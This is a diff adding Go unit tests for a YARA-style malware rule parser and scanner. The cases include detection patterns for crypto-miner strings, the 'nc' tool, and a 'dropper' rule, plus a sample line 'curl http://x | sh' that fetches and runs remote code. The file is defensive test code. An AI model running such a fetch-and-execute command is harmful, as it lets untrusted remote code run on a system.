@@ -0,0 +1,192 @@
+package malwaremanager
+
+import (
+	"bytes"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func matchedNames(rules []*yaraRule) []string {
+	var names []string
+	for _, rule := range rules {
+		names = append(names, rule.name)
+	}
+	return names
+}
+
+func TestScanRules(t *testing.T) {
+	tests := []struct {
+		name    string
+		rules   string
+		data    string
+		matched []string
+	}{
+		{
+			name:    "text string",
+			rules:   `rule miner { strings: $a = "stratum+tcp://" condition: $a }`,
+			data:    "connect stratum+tcp://pool:3333",
+			matched: []string{"miner"},
+		},
+		{
+			name:    "no match",
+			rules:   `rule miner { strings: $a = "stratum+tcp://" condition: $a }`,
+			data:    "hello world",
+			matched: nil,
+		},
+		{
+			name:    "nocase",
+			rules:   `rule r { strings: $a = "XMRig" nocase condition: $a }`,
+			data:    "running xmrig",
+			matched: []string{"r"},
+		},
+		{
+			name:    "nocase after invalid utf-8",
+			rules:   `rule r { strings: $a = "XMRig" nocase condition: $a at 2 }`,
+			data:    "\xff\xfeXMRIG",
+			matched: []string{"r"},
+		},
+		{
+			name:    "wide",
+			rules:   `rule r { strings: $a = "evil" wide condition: $a }`,
+			data:    "e\x00v\x00i\x00l\x00",
+			matched: []string{"r"},
+		},
+		{
+			name:    "wide only does not match ascii",
+			rules:   `rule r { strings: $a = "evil" wide condition: $a }`,
+			data:    "evil",
+			matched: nil,
+		},
+		{
+			name:    "fullword",
+			rules:   `rule r { strings: $a = "nc" fullword condition: $a }`,
+			data:    "sync; func",
+			matched: nil,
+		},
+		{
+			name:    "hex string with wildcards and jumps",
+			rules:   `rule elf { strings: $h = { 7F 45 4C 46 [2-4] 0? ?1 } condition: $h at 0 }`,
+			data:    "\x7fELF\x02\x01\x01\x00\x01",
+			matched: []string{"elf"},
+		},
+		{
+			name:    "hex string with unbounded jumps",
+			rules:   `rule r { strings: $h = { 41 [1-] 42 [-] 43 } condition: $h }`,
+			data:    "xxAyyyByyyC",
+			matched: []string{"r"},
+		},
+		{
+			name:    "regular expression",
+			rules:   `rule r { strings: $re = /wallet=[0-9a-f]{8}/i condition: $re }`,
+			data:    "WALLET=deadbeef",
+			matched: []string{"r"},
+		},
+		{
+			name: "of expressions",
+			rules: `
+rule any_of { strings: $a = "one" $b = "two" $c = "three" condition: any of them }
+rule all_of { strings: $a = "one" $b = "two" $c = "three" condition: all of them }
+rule two_of { strings: $a1 = "one" $a2 = "two" $b = "three" condition: 2 of ($a*) }
+rule none_of { strings: $a = "four" condition: none of them }`,
+			data:    "one two",
+			matched: []string{"any_of", "two_of", "none_of"},
+		},
+		{
+			name: "counts, filesize and integers",
+			rules: `
+rule count { strings: $a = "ab" condition: #a >= 3 and filesize < 1KB }
+rule mz { condition: uint16(0) == 0x5A4D and uint8be(2) == 0x61 }`,
+			data:    "MZabababab",
+			matched: []string{"count", "mz"},
+		},
+		{
+			name: "private rules and rule references",
+			rules: `
+private rule base { strings: $a = "curl" condition: $a }
+rule dropper : downloader linux {
+	meta:
+		description = "downloads and executes"
+		severity = "high"
+	strings:
+		$b = "| sh"
+	condition:
+		base and ($b or not true)
+}`,
+			data:    "curl http://x | sh",
+			matched: []string{"dropper"},
+		},
+		{
+			name:    "comments",
+			rules:   "// a comment\n/* a\nblock */ rule r { condition: true }",
+			data:    "",
+			matched: []string{"r"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rules, err := parseYaraRules(tt.rules, map[string]*yaraRule{})
+			require.NoError(t, err)
+			matched, err := scanRules(rules, []byte(tt.data), time.Time{})
+			require.NoError(t, err)
+			assert.Equal(t, tt.matched, matchedNames(matched))
+		})
+	}
+}
+
+func TestScanRulesDeadline(t *testing.T) {
+	rules, err := parseYaraRules(`rule r { strings: $h = { 41 [-] 41 [-] 41 [-] 41 [-] 42 } condition: $h }`, map[string]*yaraRule{})
+	require.NoError(t, err)
+	data := bytes.Repeat([]byte("A"), 1024*1024)
+
+	_, err = scanRules(rules, data, time.Now().Add(10*time.Millisecond))
+	assert.ErrorIs(t, err, errScanTimeout)
+}
+
+func TestParseYaraRulesSkipsInvalidRules(t *testing.T) {
+	rules, err := parseYaraRules(`
+import "pe"
+rule first { condition: true }
+rule broken { strings: $a = "x" condition: $b }
+global rule global_rule { condition: true }
+private rule second { condition: first }
+rule third : tag { condition: second }`, map[string]*yaraRule{})
+	assert.Error(t, err)
+	assert.Equal(t, []string{"first", "second", "third"}, matchedNames(rules))
+}
+
+func TestParseYaraRulesMeta(t *testing.T) {
+	rules, err := parseYaraRules(`rule r : t1 t2 { meta: author = "me" score = 80 enabled = true condition: true }`, map[string]*yaraRule{})
+	require.NoError(t, err)
+	require.Len(t, rules, 1)
+	assert.Equal(t, []string{"t1", "t2"}, rules[0].tags)
+	assert.Equal(t, map[string]string{"author": "me", "score": "80", "enabled": "true"}, rules[0].meta)
+}
+
+func TestParseYaraRulesErrors(t *testing.T) {
+	tests := []struct {
+		name  string
+		rules string
+	}{
+		{name: "import", rules: `import "pe" rule r { condition: true }`},
+		{name: "global rule", rules: `global rule r { condition: true }`},
+		{name: "missing condition", rules: `rule r { strings: $a = "x" }`},
+		{name: "undefined string", rules: `rule r { strings: $a = "x" condition: $b }`},
+		{name: "undefined rule", rules: `rule r { condition: other }`},
+		{name: "duplicate rule", rules: `rule r { condition: true } rule r { condition: false }`},
+		{name: "duplicate string", rules: `rule r { strings: $a = "x" $a = "y" condition: $a }`},
+		{name: "hex alternatives", rules: `rule r { strings: $h = { 4D ( 5A | 00 ) } condition: $h }`},
+		{name: "hex jump at start", rules: `rule r { strings: $h = { [2] 4D } condition: $h }`},
+		{name: "xor modifier", rules: `rule r { strings: $a = "x" xor condition: $a }`},
+		{name: "invalid regular expression", rules: `rule r { strings: $re = /a(/ condition: $re }`},
+		{name: "unterminated string", rules: `rule r { strings: $a = "x condition: $a }`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := parseYaraRules(tt.rules, map[string]*yaraRule{})
+			assert.Error(t, err)
+		})
+	}
+}